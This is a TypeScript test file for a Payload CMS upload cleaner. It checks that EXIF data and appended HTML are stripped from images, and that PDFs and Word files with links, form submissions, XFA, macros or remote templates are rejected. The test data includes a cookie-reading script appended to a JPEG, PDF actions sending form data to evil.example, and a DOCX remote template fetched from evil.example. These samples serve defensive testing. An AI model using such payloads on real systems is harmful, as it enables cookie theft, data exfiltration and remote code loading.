import fs from 'node:fs'
import path from 'node:path'
import config from '@payload-config'
import { getPayload, type Payload } from 'payload'
import sharp from 'sharp'
import { beforeAll, describe, expect, it } from 'vitest'
import { UPLOAD_MESSAGES } from '@/platform/media/cleanUploadContent'
import type { User } from '@/payload-types'
import { minimalPdf } from '../fixtures/minimal-pdf'
import { docxFile } from '../fixtures/zip-file'

let payload: Payload
let editor: User

beforeAll(async () => {
  payload = await getPayload({ config })
  await payload.create({ collection: 'users', data: { email: 'admin@uploads.test', password: 'Correct-Horse-42', name: '管理员', roles: ['admin'] } })
  editor = (await payload.create({ collection: 'users', data: { email: 'editor@uploads.test', password: 'Correct-Horse-42', name: '编辑', roles: ['editor'] } })) as User
})

/** A phone photo: EXIF with a GPS position and a phone number in Artist, and HTML appended after the image. */
async function phonePhoto(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#c33' } })
    .jpeg()
    .withExif({ IFD0: { Artist: '张三 13912345678', Copyright: 'GPS 30.6586 104.0648' } })
    .toBuffer()
  return Buffer.concat([jpeg, Buffer.from('<html><script>alert(document.cookie)</script></html>')])
}

describe('staff uploads', () => {
  it('store a media image as pixels only: no EXIF, nothing after the image', async () => {
    const data = await phonePhoto()
    expect(data.includes('13912345678')).toBe(true)
    const doc = await payload.create({ collection: 'media', data: { alt: '义诊现场' }, file: { data, mimetype: 'image/jpeg', name: 'photo.jpg', size: data.length }, user: editor, overrideAccess: false })
    const stored = fs.readFileSync(path.join(process.env.UPLOADS_DIR!, 'media', doc.filename!))
    expect(stored.includes('13912345678')).toBe(false)
    expect(stored.includes('<script')).toBe(false)
    expect((await sharp(stored).metadata()).exif).toBeUndefined()
    expect(stored.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]))
    expect(doc.filesize).toBe(stored.length)
  })

  it('refuse a PDF with a web-address, submit-form or script action, in Chinese', async () => {
    for (const pdf of [
      minimalPdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://evil.example/) >> >>']),
      minimalPdf('', ['<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (http://evil.example/) >> >>']),
      minimalPdf('/AcroForm << /Fields [] /XFA 3 0 R >> ', ['<< /Length 0 >>']),
    ]) {
      await expect(
        payload.create({ collection: 'policy-documents', data: { title: '文件' }, file: { data: pdf, mimetype: 'application/pdf', name: 'x.pdf', size: pdf.length }, user: editor, overrideAccess: false }),
      ).rejects.toThrow(UPLOAD_MESSAGES.unsafePdf)
    }
    const plain = minimalPdf()
    const kept = await payload.create({ collection: 'policy-documents', data: { title: '普通文件' }, file: { data: plain, mimetype: 'application/pdf', name: 'ok.pdf', size: plain.length }, user: editor, overrideAccess: false })
    expect(kept.id).toBeTruthy()
  })

  it('refuse a Word file with macros or a remote template, in Chinese, and keep an ordinary one', async () => {
    const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
    const upload = (data: Buffer, name: string) =>
      payload.create({ collection: 'policy-documents', data: { title: '附件' }, file: { data, mimetype: DOCX, name, size: data.length }, user: editor, overrideAccess: false })
    const before = (await payload.count({ collection: 'policy-documents', overrideAccess: true })).totalDocs
    await expect(upload(docxFile({ extra: { 'word/vbaProject.bin': Buffer.from('Attribute VB_Name') } }), 'macro.docx')).rejects.toThrow(UPLOAD_MESSAGES.unsafeOffice(['macros']))
    const remoteTemplate = docxFile({
      documentRels: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    })
    await expect(upload(remoteTemplate, 'template.docx')).rejects.toThrow(UPLOAD_MESSAGES.unsafeOffice(['external-link']))
    expect((await payload.count({ collection: 'policy-documents', overrideAccess: true })).totalDocs).toBe(before)
    const kept = await upload(docxFile(), 'notice.docx')
    expect(kept.filename).toMatch(/\.docx$/)
  })
})
